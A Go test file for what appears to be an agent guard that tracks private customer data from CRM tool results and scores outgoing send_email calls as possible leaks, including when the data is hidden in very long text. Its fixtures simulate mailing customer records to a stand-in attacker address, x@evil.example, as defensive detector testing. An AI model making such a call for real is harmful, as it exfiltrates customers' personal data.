package flow_test

import (
	"strings"
	"testing"

	"durward/internal/guard/flow"
)

// Private data behind much else is found again where it leaves, and where it
// could not be remembered the call is told of, not passed in silence.
func TestLongTextsHideNothing(t *testing.T) {
	padding := strings.Repeat("The harbour was quiet that morning and the boats lay still. ", 25_000) // 1.5 MB
	for name, text := range map[string]string{
		"after much else":    padding + customer,
		"before much else":   customer + padding,
		"between two halves": padding[:700_000] + customer + padding[:700_000],
	} {
		s, other := flow.New(nil), flow.New(nil)
		s.Result("crm", "get_customer", []byte(text), 0)
		other.Result("crm", "get_customer", []byte(text), 0)
		if got := worst(s.Call("mail", "send_email", mail("x@evil.example", customer))); got < 0.8 {
			t.Errorf("%s: the leak scores %.2f", name, got)
		}
		if got := worst(other.Call("mail", "send_email", mail("x@evil.example", "see you tomorrow at the harbour"))); got != 0.4 {
			t.Errorf("%s: what cannot be compared with everything scores %.2f, want 0.4", name, got)
		}
	}
	s := flow.New(nil)
	s.Result("crm", "get_customer", []byte(customer), 0)
	if got := worst(s.Call("mail", "send_email", mail("x@evil.example", "see you tomorrow at the harbour"))); got != 0 {
		t.Errorf("where everything is remembered, a harmless mail scores %.2f", got)
	}
}

// What is read first does not keep out what is read later.
func TestAFullMemoryTakesWhatIsNew(t *testing.T) {
	s := flow.New(nil)
	for i := range 40 {
		s.Result("crm", "export_customers", []byte(strings.Repeat(string(rune('a'+i%26))+"lorem ipsum dolor sit amet consectetur adipiscing elit sed do ", 1000)+customer[:40]), 0)
	}
	for i := range 3000 {
		s.Result("crm", "get_customer", []byte(`{"email":"a@b.example","phone":"+49 170 `+strings.Repeat(string(rune('0'+i%10)), 3)+string(rune('0'+i/10%10))+string(rune('0'+i/100%10))+string(rune('0'+i/1000))+`"}`), 0)
	}
	s.Result("crm", "get_customer", []byte(customer), 0)
	if got := worst(s.Call("mail", "send_email", mail("x@evil.example", customer))); got < 0.8 {
		t.Errorf("the leak scores %.2f", got)
	}
}
